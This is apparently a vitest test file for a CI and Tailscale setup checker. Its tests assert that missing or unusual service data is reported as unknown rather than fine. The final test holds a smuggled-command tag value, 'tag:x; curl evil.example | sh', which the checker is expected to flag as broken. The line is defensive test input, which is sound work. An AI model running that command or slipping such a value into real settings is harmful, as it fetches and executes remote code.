/** What a service does not say, or says in a form of its own, is judged as what it is: not told. */
import { describe, expect, it } from "vitest";
import { judge, type Row } from "../../../core/checks/judge.ts";
import { beforeTailscaleChecks } from "../../../core/checks/rows/before-tailscale.ts";
import { centralRows } from "../../../core/checks/rows/central.ts";
import { credentialRows } from "../../../core/checks/rows/credential.ts";
import { deviceRows } from "../../../core/checks/rows/device.ts";
import { redirectRows } from "../../../core/checks/rows/redirects.ts";
import { secretRows } from "../../../core/checks/rows/secrets.ts";

const now = Date.parse("2026-11-26T12:00:00Z");
const settings = {
  ...{ slug: "acme/app", tag: "tag:ci", formerly: [], identity: { kind: "federated" }, models: ["anthropic/**"] },
  ...{ workflow: { presets: ["review"], path: ".github/workflows/claude.yml", runsOn: "ubuntu-latest" } },
};
const credential = { id: "T1-k2", kind: "federated", description: "", scopes: ["auth_keys"], tags: ["tag:ci"] };
const setup = { slug: "acme/app", credential: { clientId: "T1-k2", kind: "federated", tags: ["tag:ci"] }, secrets: [] };
const stack = {
  ...{ stack: "prod", now, settings: { aperture: { hostname: "ai", device: "tag:aperture" }, policy: {} } },
  ...{ setup: { clientIds: new Set(["T1-k2"]), central: [] }, central: [] },
  credentials: { listed: [{ ...credential, created: now }], isWhole: true, unseen: new Map() },
};
const facts = {
  ...{ stack, settings, setup, oidc: { useDefault: true } },
  github: { slug: "acme/app", id: 42, nodeId: "R_42", ownerId: 7, url: "https://github.com/acme/app" },
};

/** The verdicts of one row, without those that it needs. */
function look(rows: readonly Row[], id: string, values: object) {
  const [row, ...others] = rows.filter((one) => one.id === id);
  if (!row || others.length > 0) throw new Error(`no row ${id}`);
  const known = { ...facts, ...values };
  return judge([row], known.stack as never, [known as never]).map(({ verdict }) => verdict);
}

describe("dates", () => {
  it("a secret without one is not of 1970", () => {
    const secrets = { repository: [{ name: "TS_OAUTH_CLIENT_ID" }, { name: "TS_AUDIENCE" }] };
    const verdicts = look(secretRows, "secrets-newer", { secrets });
    expect(verdicts.map(({ status }) => status)).not.toContain("broken");
    expect(verdicts[0]).toMatchObject({ status: "skipped", reason: expect.stringContaining("does not say") });
  });

  it("a device that was last seen at no time may be online", () => {
    const device = { name: "ai.acme.ts.net", addresses: [], tags: ["tag:aperture"], user: "", isExternal: false };
    const ofDevice = (lastSeen: string) =>
      look(deviceRows, "device-online", { stack: { ...stack, devices: [{ ...device, lastSeen }] } });
    expect(ofDevice("never")).toMatchObject([{ status: "unknown" }]);
    expect(ofDevice("2026-11-25T12:00:00Z")).toMatchObject([{ reason: expect.stringContaining("2026-11-25") }]);
  });
});

it("an identity whose subject is not shown is not said to accept the repository's", () => {
  expect(look(credentialRows, "credential-accepts", {})).toMatchObject([{ status: "unknown" }]);
});

it("a settings file that is too long to be shown is not said to be harmless", () => {
  const settingsFiles = [{ path: ".claude/settings.json" }];
  expect(look(redirectRows, "redirect-settings", { settingsFiles })).toMatchObject([
    { status: "unknown", reason: expect.stringContaining(".claude/settings.json") },
  ]);
});

describe("a central workflow", () => {
  const central = { repository: "acme/.github", path: ".github/workflows/claude.yml", branch: "main" };
  const file = { ...central, repositoryId: "R_1", blob: "b", delivery: { kind: "commit" } };
  const ofAccess = (repository: object) =>
    look(centralRows, "central-callable", {
      setup: { ...setup, file: { central } },
      stack: { ...stack, central: [{ setup: { file }, live: { blob: "b" }, repository, proposal: [] }] },
    });
  const seen = { slug: "acme/.github", url: "https://github.com/acme/.github" };

  it("that GitHub does not let be asked of is not said to be callable", () => {
    expect(ofAccess({ ...seen, isPublic: false })).toMatchObject([{ status: "unknown", waits: true }]);
    expect(ofAccess({ ...seen, isPublic: true })).toMatchObject([{ status: "ok" }]);
    expect(ofAccess({ ...seen, isPublic: false, access: "organization" })).toMatchObject([{ status: "ok" }]);
  });
});

it("a tag of a credential that is none is no word of a command", () => {
  const tailscale = {
    credential: { kind: "oauth", clientId: "T1" },
    rights: { scopes: ["all"], tags: ["tag:x; curl evil.example | sh"] },
  };
  const before = {
    ...{ stack: "prod", tailscale, tailnet: { policy: "{}" } },
    settings: { repositories: [settings], tagOwners: [] },
  };
  const row = beforeTailscaleChecks.find(({ id }) => id === "tailscale-tag");
  expect(row?.judge(before as never)).toMatchObject([{ status: "broken", fix: { kind: "link" } }]);
});
